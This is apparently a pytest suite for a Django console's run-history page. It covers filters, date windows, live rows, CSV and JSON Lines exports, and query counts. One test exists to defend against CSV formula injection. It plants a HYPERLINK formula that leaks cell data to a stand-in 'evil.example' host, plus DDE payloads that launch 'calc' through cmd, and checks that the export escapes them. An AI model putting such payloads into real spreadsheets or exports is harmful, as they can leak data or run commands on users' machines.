"""The history list: filters in the URL, key inputs, live rows, exports, query count."""

import csv
import io
import json
from datetime import timedelta
from urllib.parse import urlencode

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from codeengine_ui.catalog.models import AccessToken, Function, Instance
from codeengine_ui.runs.history import spreadsheet_safe
from codeengine_ui.runs.models import Execution, ExecutionStatus
from tests.conftest import make_token, save_demo_function, stored_run


@pytest.fixture
def other_user(django_user_model):
    return django_user_model.objects.create_user("grace", password="grace-password")


def _execution(function, token, user, inputs, **fields) -> Execution:
    fields.setdefault("status", ExecutionStatus.SUCCESS)
    return stored_run(function, token, user, inputs, **fields)


@pytest.fixture
def runs(greet, instance, developer_token, member, other_user):
    add = save_demo_function(instance, developer_token, "addNumbers")
    other_instance = Instance.objects.create(name="prod", display_name="Production")
    other_token = make_token(other_instance, "Prod", "prod-token-00000000000000000")
    greet_prod = Function.objects.create(
        instance=other_instance,
        package_id=greet.package_id,
        version="1.0.0",
        function_name="greet",
        parameters=greet.parameters,
    )
    old = timezone.now() - timedelta(days=10)
    return {
        "ada": _execution(greet, developer_token, member, {"name": "Ada"}),
        "zoe": _execution(
            greet, developer_token, other_user, {"name": "Zoë"}, status=ExecutionStatus.FAILED
        ),
        "sum": _execution(add, developer_token, member, {"a": 1, "b": 2}, queued_at=old),
        "prod": _execution(greet_prod, other_token, other_user, {"name": "Prod"}),
    }


def _listed(client, query: str = "") -> list[int]:
    response = client.get(f"/executions/{query}")
    assert response.status_code == 200
    return [execution.pk for execution, _labels in response.context["rows"]]


def test_newest_first_by_default(member_client, runs):
    assert _listed(member_client) == [runs[n].pk for n in ("prod", "sum", "zoe", "ada")]


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("?status=FAILED", ["zoe"]),
        ("?version=1.0.0", ["prod"]),
        ("?q=numbers", ["sum"]),
        ("?q=zo%C3%AB", ["zoe"]),
        ("?q=PROD", ["prod"]),
        ("?mine=on", ["sum", "ada"]),
    ],
)
def test_filters(member_client, runs, query, expected):
    assert _listed(member_client, query) == [runs[name].pk for name in expected]


def test_filters_by_function_instance_user_and_dates(member_client, runs, greet, other_user):
    prod = runs["prod"].instance
    today = timezone.localdate()

    assert _listed(member_client, f"?function={greet.pk}") == [runs["zoe"].pk, runs["ada"].pk]
    assert _listed(member_client, f"?instance={prod.pk}") == [runs["prod"].pk]
    assert _listed(member_client, f"?user={other_user.pk}") == [runs["prod"].pk, runs["zoe"].pk]
    since = (today - timedelta(days=11)).isoformat()
    until = (today - timedelta(days=9)).isoformat()
    assert _listed(member_client, f"?since={since}&until={until}") == [runs["sum"].pk]


@pytest.mark.parametrize(
    ("outcome", "expected"),
    [("success", ["prod", "sum", "ada"]), ("failure", ["zoe"]), ("unsuccessful", ["zoe"]),
     ("error", []), ("in_flight", [])],
)  # fmt: skip
def test_filters_by_outcome(member_client, runs, outcome, expected):
    assert _listed(member_client, f"?outcome={outcome}") == [runs[name].pk for name in expected]


def test_a_time_window_is_shown_and_can_be_dropped(member_client, runs):
    start = (runs["sum"].queued_at - timedelta(minutes=1)).isoformat()
    end = (runs["sum"].queued_at + timedelta(minutes=1)).isoformat()
    query = urlencode({"start": start, "end": end, "status": "SUCCESS"})

    response = member_client.get(f"/executions/?{query}")

    assert [e.pk for e, _ in response.context["rows"]] == [runs["sum"].pk]
    html = response.content.decode()
    assert "Runs queued from" in html
    assert '<a href="?status=SUCCESS">Any time</a>' in html
    assert f'<input type="hidden" name="start" value="{start}"' in html  # kept when filtering


def test_a_broken_time_window_is_explained(member_client, runs):
    response = member_client.get("/executions/?start=yesterday&end=2026-01-01T00:00:00Z")
    backwards = member_client.get(
        "/executions/?start=2026-02-01T00:00:00Z&end=2026-01-01T00:00:00Z"
    )

    assert response.status_code == backwards.status_code == 200
    assert "Enter a valid date/time." in response.content.decode()
    assert "The time window ends before it starts." in backwards.content.decode()


def test_an_impossible_date_range_is_explained(member_client, runs):
    response = member_client.get("/executions/?since=2026-05-02&until=2026-05-01")

    assert "The end date is before the start date." in response.content.decode()


def test_filters_stay_in_page_and_export_links(member_client, runs, monkeypatch):
    monkeypatch.setattr("codeengine_ui.runs.history.PAGE_SIZE", 1)

    html = member_client.get("/executions/?status=SUCCESS").content.decode()

    assert f"?status=SUCCESS&amp;before={runs['prod'].pk}" in html
    assert "/executions/export.csv?status=SUCCESS" in html
    assert "/executions/export.jsonl?status=SUCCESS" in html


def test_key_inputs_label_the_rows(member_client, runs, greet):
    Function.objects.filter(pk=greet.pk).update(key_inputs=["name"])

    html = member_client.get("/executions/").content.decode()

    assert '<span class="chip" title="name: Ada">name: Ada</span>' in html
    assert '<span class="chip" title="name: Zoë">name: Zoë</span>' in html


def test_functions_pinned_to_an_older_version_are_flagged(member_client, runs, greet):
    Function.objects.filter(pk=greet.pk).update(
        newest_version="1.10.0", newest_version_token=greet.default_token
    )

    html = member_client.get("/executions/").content.decode()

    assert 'title="Version 1.10.0 is released">older</span>' in html


def test_rows_of_runs_in_progress_are_watched_by_one_question_for_the_page(member_client, runs):
    ada = runs["ada"].pk
    Execution.objects.filter(pk=ada).update(status=ExecutionStatus.RUNNING)

    html = member_client.get("/executions/").content.decode()

    assert html.count("data-live") == 1
    ask = f'hx-get="/executions/live/?seen={ada}%3Arunning%3A1&amp;run={ada}"'
    assert ask in html
    Execution.objects.filter(pk=ada).update(status=ExecutionStatus.SUCCESS)
    news = member_client.get(
        f"/executions/live/?seen={ada}%3Arunning%3A1&run={ada}", HTTP_HX_REQUEST="true"
    ).content.decode()
    assert f'<tr id="execution-row-{ada}" hx-swap-oob="true">' in news
    assert "Success" in news
    assert "data-live" not in news, "nothing left in flight: the page stops asking"


def test_export_csv_streams_the_filtered_runs(member_client, runs, monkeypatch):
    monkeypatch.setattr("codeengine_ui.runs.history.EXPORT_BATCH", 1)

    response = member_client.get("/executions/export.csv?function=&mine=on")

    assert response.streaming
    assert response["Content-Disposition"].startswith('attachment; filename="executions-')
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert [int(row["id"]) for row in rows] == [runs["sum"].pk, runs["ada"].pk]
    assert json.loads(rows[1]["input_variables"]) == {"name": "Ada"}
    assert rows[1]["requested_by"] == "member" and rows[1]["status"] == "SUCCESS"


def test_an_export_format_the_console_does_not_write_is_not_found(member_client, runs):
    assert member_client.get("/executions/export.xlsx").status_code == 404


def test_export_json_lines_includes_results_and_logs(member_client, runs):
    Execution.objects.filter(pk=runs["zoe"].pk).update(result={"ok": False}, stderr_log=["boom"])

    response = member_client.get("/executions/export.jsonl?status=FAILED")

    [line] = b"".join(response.streaming_content).decode().splitlines()
    record = json.loads(line)
    assert (record["id"], record["result"], record["stderr"]) == (
        runs["zoe"].pk,
        {"ok": False},
        ["boom"],
    )
    assert record["input_variables"] == {"name": "Zoë"}


def test_history_page_runs_a_constant_number_of_queries(
    member_client, greet, developer_token, member
):
    Function.objects.filter(pk=greet.pk).update(key_inputs=["name"])
    _execution(greet, developer_token, member, {"name": "one"})

    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            assert member_client.get("/executions/?status=SUCCESS").status_code == 200
        return len(captured.captured_queries)

    queries()  # the first page of a session remembers the user's theme in it
    with_one_row = queries()
    for index in range(30):
        _execution(greet, developer_token, member, {"name": f"n{index}"})

    assert queries() == with_one_row
    assert with_one_row <= 7  # session, user, role, the page, and the filter menus' options


def test_csv_export_neutralises_cells_a_spreadsheet_would_run(
    member_client, django_user_model, greet, developer_token
):
    formula = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
    AccessToken.objects.filter(pk=developer_token.pk).update(label=formula)
    developer_token.refresh_from_db()
    plus = django_user_model.objects.create_user("+cmd|' /C calc'!A0")
    at = django_user_model.objects.create_user("@SUM(1+1)*cmd")
    stored_run(greet, developer_token, plus, {"name": "-2+3"}, domo_execution_id="=1+1")
    stored_run(greet, developer_token, at, {"name": "Ada"}, error_message="\tTAB", status="error")

    csv_text = b"".join(member_client.get("/executions/export.csv").streaming_content).decode()
    jsonl = b"".join(member_client.get("/executions/export.jsonl").streaming_content).decode()

    rows = list(csv.DictReader(io.StringIO(csv_text)))
    dangerous = ("=", "+", "-", "@", "\t", "\r")
    assert not [value for row in rows for value in row.values() if value.startswith(dangerous)]
    assert {row["token_label"] for row in rows} == {"'" + formula}
    assert {row["requested_by"] for row in rows} == {"'+cmd|' /C calc'!A0", "'@SUM(1+1)*cmd"}
    assert "'=1+1" in {row["domo_execution_id"] for row in rows}
    assert "'\tTAB" in {row["error_message"] for row in rows}
    records = [json.loads(line) for line in jsonl.splitlines()]
    assert {record["token_label"] for record in records} == {formula}, "JSON Lines stay exact"
    assert "=1+1" in {record["domo_execution_id"] for record in records}


def test_csv_export_has_each_result_as_compact_json(member_client, runs):
    Execution.objects.filter(pk=runs["ada"].pk).update(result={"greeting": "Hi, Ada", "n": [1, 2]})
    Execution.objects.filter(pk=runs["prod"].pk).update(result='=HYPERLINK("x")')
    Execution.objects.filter(pk=runs["sum"].pk).update(result=-3.5)
    Execution.objects.filter(pk=runs["zoe"].pk).update(
        error_information={"message": "-1+cmd|' /C calc'!A0"}
    )

    csv_text = b"".join(member_client.get("/executions/export.csv").streaming_content).decode()

    rows = {int(row["id"]): row for row in csv.DictReader(io.StringIO(csv_text))}
    cells = {pk: row["result"] for pk, row in rows.items()}
    assert cells[runs["ada"].pk] == '{"greeting":"Hi, Ada","n":[1,2]}'
    assert cells[runs["zoe"].pk] == "", "a run without a result leaves the cell empty"
    assert cells[runs["prod"].pk] == '"=HYPERLINK(\\"x\\")"', "quoted JSON text runs nothing"
    assert cells[runs["sum"].pk] == "-3.5", "a number alone is read as that number"
    failed = rows[runs["zoe"].pk]["error_information"]
    assert failed == '{"message":"-1+cmd|\' /C calc\'!A0"}', "why a run failed, as JSON"
    assert rows[runs["ada"].pk]["error_information"] == ""


def test_a_cell_that_would_compute_stays_text_but_a_plain_number_stays_a_number():
    assert spreadsheet_safe("-1+1") == "'-1+1"
    assert spreadsheet_safe("-3") == "-3"
    assert spreadsheet_safe("-2.5e-3") == "-2.5e-3"
    assert spreadsheet_safe("+3") == "'+3"
    assert spreadsheet_safe("-3\n=1") == "'-3\n=1"


def _older_flags(client) -> dict[int, bool]:
    """Which rows of the history flag their version as older than the newest release."""
    rows = client.get("/executions/").context["rows"]
    return {execution.pk: bool(execution.newer_version) for execution, _ in rows}


@pytest.mark.parametrize(
    ("pinned", "newest"),
    [("1.1.0", "1.2.0"), ("1.9.0", "1.10.0")],
    ids=["newer release", "versions in release order, not as text"],
)
def test_only_runs_of_a_version_older_than_the_newest_release_are_flagged_older(
    member_client, greet, developer_token, member, pinned, newest
):
    greet.version, greet.newest_version = pinned, newest
    greet.newest_version_token = developer_token
    greet.save()
    old = _execution(greet, developer_token, member, {"name": "Ada"}, version=pinned)
    new = _execution(greet, developer_token, member, {"name": "Ada"}, version=newest)

    assert _older_flags(member_client) == {old.pk: True, new.pk: False}
    page = member_client.get("/executions/").content.decode()
    assert page.count(">older</span>") == 1
